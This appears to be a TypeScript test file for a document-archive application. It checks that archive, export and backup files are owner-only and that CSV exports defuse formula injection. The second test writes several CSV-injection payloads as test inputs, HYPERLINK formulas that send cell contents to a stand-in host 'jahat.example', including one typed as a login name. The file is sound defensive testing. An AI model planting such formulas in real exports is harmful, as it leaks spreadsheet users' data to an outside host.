// On disk, an archive is its owner's alone: the folder, the store, the database, exports and
// backups are 0700 folders and 0600 files whatever the umask, and CSV exports cannot carry a
// formula into a spreadsheet (CSV injection).
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { runImport } from '../../main/archive/import.ts';
import { createBackend } from '../../main/host/backend.ts';
import { registerCsv } from '../../main/publication/registers-export.ts';
import { csvCell } from '../../main/reports/csv.ts';
import { CLI_SENDER, loginAsAdmin, ok } from '../helpers/accounts.ts';
import { tempDir } from '../helpers/tmp.ts';

/** Every folder and file under `root` whose mode lets anyone but the owner in. */
function looseModes(root: string): string[] {
  const loose: string[] = [];
  const walk = (path: string) => {
    const info = statSync(path);
    const mode = info.mode & 0o777;
    if (info.isDirectory()) {
      if (mode !== 0o700) loose.push(`${path} ${mode.toString(8)}`);
      for (const name of readdirSync(path)) walk(join(path, name));
    } else if (mode !== 0o600) loose.push(`${path} ${mode.toString(8)}`);
  };
  walk(root);
  return loose;
}

test('the archive folder, store, database, exports and backups are owner-only (0700 / 0600) even under umask 022', { skip: process.platform === 'win32' ? 'POSIX modes' : false }, async () => {
  const before = process.umask(0o022);
  const root = tempDir();
  const archiveDir = join(root, 'arsip');
  const backend = await createBackend({ archiveDir, host: 'browser-shell' });
  try {
    await loginAsAdmin(backend);
    writeFileSync(join(root, 'memo.txt'), 'Memo rahasia kepala dinas');
    const report = await runImport(backend.archive, [join(root, 'memo.txt')], { actor: 'admin' });
    assert.equal(report.progress.imported, 1);
    await ok(backend.dispatch('audit.export', { filter: {} }, CLI_SENDER));
    await ok(backend.dispatch('publication.export', { register: 'dip', format: 'csv' }, CLI_SENDER));
    await ok(backend.dispatch('publication.export', { register: 'dip', format: 'xlsx' }, CLI_SENDER));
    const run = await ok<{ ok: boolean }>(backend.dispatch('backup.run', {}, CLI_SENDER));
    assert.equal(run.ok, true);
  } finally {
    await backend.close();
    process.umask(before);
  }
  assert.ok(readdirSync(join(archiveDir, 'ekspor')).length >= 3, 'the exports were written');
  assert.deepEqual(looseModes(archiveDir), [], 'nothing in the archive is readable by other accounts');
  assert.deepEqual(looseModes(join(root, 'arsip-backups')), [], 'nothing in the backups is readable by other accounts');
});

test('CSV cells that a spreadsheet would run as a formula are neutralised, in every export', async () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const cell = csvCell(`${start}HYPERLINK("http://jahat.example/?d="&A1,"klik")`);
    const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
    assert.ok(unquoted.startsWith(`'${start}`), `a cell starting with ${JSON.stringify(start)} gets an apostrophe: ${cell}`);
  }
  assert.equal(csvCell('Surat undangan, rapat'), '"Surat undangan, rapat"');
  assert.equal(csvCell(-3), '-3', 'numbers are data, not formulas');
  assert.equal(csvCell('Memo biasa'), 'Memo biasa');

  const csv = registerCsv({ kind: 'dip', title: 'DIP', agency: 'Dinas', asOf: '2026', columns: [{ header: 'Ringkasan', width: 10 }], rows: [['=HYPERLINK("http://jahat.example","klik")']] } as never).toString('utf8');
  assert.match(csv, /^\uFEFF?Ringkasan\r\n"'=HYPERLINK\(""http:\/\/jahat\.example"",""klik""\)"\r\n$/);

  // The audit export: a user name typed at the login screen is an attacker's cell.
  const root = tempDir();
  const backend = await createBackend({ archiveDir: join(root, 'arsip'), host: 'browser-shell' });
  try {
    await loginAsAdmin(backend);
    await backend.dispatch('accounts.login', { name: '=HYPERLINK("http://jahat.example/?"&B2,"buka")', password: 'apa-saja-1' }, CLI_SENDER);
    await loginAsAdmin(backend);
    const exported = await ok<{ path: string }>(backend.dispatch('audit.export', { filter: {} }, CLI_SENDER));
    const text = readFileSync(exported.path, 'utf8');
    assert.ok(text.includes(`"'=HYPERLINK(""http://jahat.example/?""&B2,""buka"")"`), 'the typed name is neutralised');
    assert.ok(!/(^|,)"?=HYPERLINK/m.test(text), 'no cell starts with a formula');
  } finally {
    await backend.close();
  }
});
